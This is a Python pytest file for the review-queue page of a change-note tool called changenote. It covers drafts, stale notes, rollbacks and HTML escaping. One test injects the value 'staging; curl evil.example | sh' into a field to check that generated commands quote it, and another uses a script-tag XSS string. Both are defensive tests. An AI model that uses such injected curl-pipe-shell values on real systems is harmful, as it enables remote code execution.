"""The review queue: what waits for somebody, what to do about it, and nothing else."""

from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest

from changenote.capture.reverting import Applies
from changenote.config import Config
from changenote.model.problems import Finding
from changenote.model.rehearsal import steps_sha256
from changenote.site.book import Book, Broken, Drifted, InGit
from changenote.site.editions import edition
from changenote.site.environment import environment
from changenote.site.lists.review import FEW, MOST, Waiting, waiting
from tests.books import book, least, links, page, words
from tests.house import NOTE

HEAD = "4c1f0aa4c1f0aa4c1f0aa4c1f0aa4c1f0aa4c1f0"
MOMENT = datetime(2026, 11, 20, 9, 0, tzinfo=UTC)


def shipped(
    note_id: str, title: str = "Cache cart totals", *, day: str = "", more: str = ""
) -> str:
    """A valid live note that shipped on a day, the one in its id if not said otherwise."""
    day = day or f"{note_id[:4]}-{note_id[4:6]}-{note_id[6:8]}"
    text = NOTE.replace("ID", note_id).replace("Cache cart totals per session", title)
    return text.replace("2025-11-20", day) + more


def reviewed(day: str, status: str = "reviewed") -> str:
    return f"revision: {{version: 1, status: {status}, last_reviewed: {day}, by: '@ann'}}\n"


def told(of: Book, **facts: Any) -> Book:
    """A book in which git tells this of its first note."""
    return replace(of, in_git={of.entries[0].file: InGit(**facts)}, commit=HEAD)


def drift(*files: tuple[str, int], commits: int = 0) -> dict[str, Any]:
    found = tuple(Drifted(path=path, commits=count, last=MOMENT) for path, count in files)
    return {"drifted": found, "drifted_by": commits or max(count for _, count in files)}


def found(of: Book) -> Waiting:
    return waiting(edition(of, environment()))


def queue(of: Book) -> str:
    """What a reader sees of the page."""
    return words(page(of, "changes/review/").content)


def test_nothing_waits_where_all_is_done() -> None:
    of = book(shipped("20261120-aaaaaa", more=reviewed("2026-11-20")))

    assert found(of).notes == 0
    assert queue(of) == "Change notes Review queue No note waits for anybody."


def test_a_draft_is_listed_with_what_it_lacks_and_the_commands_that_finish_it() -> None:
    of = book(least("20261122-k3f9xq", "Count sheep"))

    assert "reason" in found(of).drafts[0].lacks
    assert found(of).notes == 1
    said = queue(of)
    assert "1 note waits for somebody." in said
    assert (
        "Fill in what is missing with changenote edit ID, then stand for it with changenote review"
        " ID: that makes it a shipped note." in said
    )
    assert "Count sheep draft 20261122-k3f9xq Lacks owner, service, shipped.at," in said


def test_a_note_that_nobody_confirmed_is_listed_once() -> None:
    flagged = "flags: [needs_human_review]\n"
    of = book(
        shipped("20261120-aaaaaa", more=flagged),
        least("20261121-bbbbbb") + flagged,
        shipped("20261101-cccccc", more=reviewed("2026-11-01")),
    )

    waits = found(of)

    assert [row.note.id for row in waits.flagged] == ["20261120-aaaaaa"]
    assert [draft.row.note.id for draft in waits.drafts] == ["20261121-bbbbbb"]
    assert waits.unreviewed == ()
    assert waits.notes == 2
    assert "confirm it with changenote review ID." in queue(of)


def test_what_shipped_since_the_first_review_and_nobody_read_is_listed() -> None:
    of = book(
        shipped("20261120-aaaaaa", "Newest"),
        shipped("20261110-bbbbbb", "Unreviewed", more=reviewed("2026-11-11", "unreviewed")),
        shipped("20261105-cccccc", "Read once", more=reviewed("2026-11-05")),
        shipped("20261101-dddddd", "Before that"),
    )

    waits = found(of)

    assert [row.note.title for row in waits.unreviewed] == ["Newest", "Unreviewed"]
    assert [row.note.title for row in waits.earlier] == ["Before that"]
    assert waits.notes == 2
    assert "1 other shipped before the first review here and is not listed." in queue(of)


def test_a_team_that_never_reviews_is_not_drowned_but_told_how_to_begin() -> None:
    of = book(*(shipped(f"202611{n:02}-aaaaaa", f"Note {n}") for n in range(1, 29)))

    waits = found(of)

    assert (waits.notes, waits.unreviewed, len(waits.earlier)) == (0, (), 28)
    assert "No note here was ever reviewed." in queue(of)
    assert "Note 28" not in queue(of)


def test_a_stale_note_says_which_files_changed_how_often_and_when() -> None:
    of = told(
        book(shipped("20261101-aaaaaa", more=reviewed("2026-11-01"))),
        **drift(("app/cart/totals.py", 7)),
    )

    assert queue(of).endswith(
        "At least half of the files of these notes have changed since they shipped and were last"
        " reviewed, as of 4c1f0aa, in commits that no note tells of. Read one: if it still holds,"
        " changenote review ID says so; if not, changenote edit ID mends it. 1 Nov 2026 Cache cart totals shop-web · @acme/cart ·"
        " 20261101-aaaaaa 7 commits since, the last on 20 Nov 2026, to 1 of 1 file:"
        " app/cart/totals.py"
    )


def test_a_note_most_of_whose_files_are_as_they_were_is_not_stale() -> None:
    listed = "  - {path: README.md}\n  - {path: app/b.py}\n"
    text = shipped("20261101-aaaaaa").replace("files:\n", f"files:\n{listed}")

    assert found(told(book(text), **drift(("README.md", 99)))).stale == ()
    both = drift(("README.md", 99), ("app/b.py", 1))
    assert len(found(told(book(text), **both)).stale) == 1


def test_what_drifted_most_comes_first() -> None:
    of = book(*(shipped(f"202611{n:02}-aaaaaa", f"Note {n}") for n in (1, 2, 3)))
    counts = dict(zip((entry.file for entry in of.entries), (2, 9, 4), strict=True))
    of = replace(
        of, in_git={f: InGit(**drift(("app/cart/totals.py", n))) for f, n in counts.items()}
    )

    assert [stale.row.note.title for stale in found(of).stale] == ["Note 2", "Note 3", "Note 1"]


def test_a_long_part_of_the_queue_is_counted_whole_folded_and_never_endless() -> None:
    of = book(
        *(least(f"202601{n:02}-{m}aaaaa", f"Draft {n}-{m}") for n in range(1, 29) for m in "abcd")
    )

    made = page(of, "changes/review/")

    said = words(made.content)
    assert said.startswith("Change notes Review queue 112 notes wait for somebody. Drafts 112")
    assert words(made.content.partition("<details")[0]).count("Lacks") == FEW
    assert said.count("Lacks") == MOST
    assert " 90 more " in said
    assert said.endswith("100 of 112 are listed.")


# --- Rollbacks ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("facts", "says"),
    [
        (
            {"state": "conflicts", "commit": "b" * 40, "paths": ("app/cart/totals.py",)},
            "Reverting it conflicts in app/cart/totals.py when bbbbbbb is reverted onto 4c1f0aa."
            " changenote edit 20261120-aaaaaa",
        ),
        (
            {"state": "refused", "commit": "b" * 40, "why": "it is a merge"},
            "Reverting it stops at bbbbbbb: it is a merge. changenote edit 20261120-aaaaaa",
        ),
        (
            {"state": "undone"},
            "Reverting it has nothing left to do as of 4c1f0aa."
            " changenote set 20261120-aaaaaa status=rolled_back",
        ),
    ],
    ids=lambda value: value["state"] if isinstance(value, dict) else "",
)
def test_a_revert_that_does_not_work_any_more_is_listed_with_the_command_that_helps(
    facts: dict[str, Any], says: str
) -> None:
    of = told(book(shipped("20261120-aaaaaa")), applies=Applies(onto=HEAD, **facts))

    assert says in queue(of)


def test_a_revert_that_applies_cleanly_waits_for_nobody() -> None:
    of = told(book(shipped("20261120-aaaaaa")), applies=Applies(state="clean", onto=HEAD))

    assert found(of).rollbacks == ()


def test_a_change_that_nobody_would_revert_any_more_is_left_alone() -> None:
    fails = Applies(state="conflicts", onto=HEAD, commit="b" * 40, paths=("a",))

    old = told(book(shipped("20260801-aaaaaa"), shipped("20261120-bbbbbb")), applies=fails)
    recent = told(book(shipped("20260901-aaaaaa"), shipped("20261120-bbbbbb")), applies=fails)

    assert (len(found(old).rollbacks), len(found(recent).rollbacks)) == (0, 1)


def rehearsed(environment: str, steps_hash: str) -> str:
    facts = f'{{environment: "{environment}", steps_sha256: {steps_hash}}}'
    return shipped("20261120-aaaaaa").replace(
        "  verify: p95 back", f"  rehearsed: {facts}\n  verify: p95 back"
    )


def test_a_rehearsal_of_other_steps_is_void_and_one_of_these_holds() -> None:
    void = book(rehearsed("staging", "0" * 64))
    rollback = void.entries[0].note.rollback
    assert rollback

    assert (
        "Its steps have changed since they were rehearsed."
        " changenote rehearse 20261120-aaaaaa --environment staging" in queue(void)
    )
    assert found(book(rehearsed("staging", steps_sha256(rollback.steps)))).rollbacks == ()


def test_a_command_to_copy_runs_nothing_that_a_note_smuggled_in() -> None:
    of = book(rehearsed("staging; curl evil.example | sh", "0" * 64))

    (doubt,) = found(of).rollbacks

    assert doubt.command.endswith("--environment 'staging; curl evil.example | sh'")


# --- The page among others ------------------------------------------------------------------------


def test_files_that_cannot_be_read_are_said_first_and_linked() -> None:
    wrong = Finding(
        file="changes/2026/x.yaml", line=1, column=1, where="", rule="stray-file",
        severity="error", found="x", expected="a note", remedy="",
    )  # fmt: skip
    of = replace(
        book(),
        broken=(Broken(file="changes/2026/20261121-bad0ne.yaml", text="x", findings=()),),
        strays=(wrong,),
    )

    content = page(of, "changes/review/").content

    assert "2 files could not be read as a note, so something may be missing here." in words(
        content
    )
    assert "../#unreadable" in links(content)


def test_every_part_that_is_listed_at_the_top_is_on_the_page() -> None:
    of = told(
        book(
            rehearsed("staging", "0" * 64),
            least("20261121-bbbbbb"),
            shipped("20261101-cccccc", more="flags: [needs_human_review]\n"),
            shipped("20261102-dddddd", more=reviewed("2026-11-02")),
            shipped("20261103-eeeeee"),
        ),
        **drift(("app/cart/totals.py", 7)),
    )

    made = page(of, "changes/review/")

    anchors = [link[1:] for link in links(made.content) if link.startswith("#")]
    assert anchors[:5] == ["rollbacks", "drafts", "flagged", "unreviewed", "stale"]
    assert {"rollbacks", "drafts", "flagged", "unreviewed", "stale"} <= {n for _, n, _ in made.toc}
    assert made.search is False
    assert made.description == "4 change notes waiting for somebody."


def test_what_a_note_says_stays_text() -> None:
    of = told(
        book(shipped("20261101-aaaaaa", "<b>bold</b> move", more="")),
        **drift(("<script>alert(1)</script>", 1)),
    )

    content = page(of, "changes/review/").content

    assert "<b>" not in content
    assert "<script>" not in content


def test_a_team_without_a_repository_has_a_queue_too() -> None:
    assert "tried" not in queue(book(rehearsed("staging", "0" * 64), config=Config(title="Log")))
